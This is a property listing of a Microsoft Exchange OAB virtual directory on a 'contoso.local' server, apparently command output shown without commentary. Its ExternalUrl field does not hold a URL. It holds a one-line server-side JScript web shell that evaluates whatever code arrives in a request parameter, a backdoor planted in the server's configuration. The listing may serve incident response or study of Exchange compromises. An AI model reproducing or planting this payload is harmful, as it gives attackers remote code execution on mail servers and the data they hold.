

Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             : 
RequireSSL                      : False
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : True
MetabasePath                    : IIS://EXCH01.contoso.local/W3SVC/1/ROOT/OAB
Path                            : C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB
ExtendedProtectionTokenChecking : None
ExtendedProtectionFlags         : 
ExtendedProtectionSPNList       : 
AdminDisplayVersion             : Version 15.1 (Build 2176.2)
Server                          : EXCH01
InternalUrl                     : https://exch01.contoso.local/OAB
InternalAuthenticationMethods   : {WindowsIntegrated, OAuth}
ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["mu9gB0"],"unsafe");}</script>
ExternalAuthenticationMethods   : {WindowsIntegrated, OAuth}
AdminDisplayName                : 
ExchangeVersion                 : 0.10 (14.0.100.0)
DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EXCH01,CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Contoso,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=contoso,DC=local
Identity                        : EXCH01\OAB (Default Web Site)
Guid                            : 982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3
ObjectCategory                  : contoso.local/Configuration/Schema/ms-Exch-OAB-Virtual-Directory
ObjectClass                     : {top, msExchVirtualDirectory, msExchOABVirtualDirectory}
OriginatingServer               : DC01.contoso.local
IsValid                         : True
ObjectState                     : Unchanged


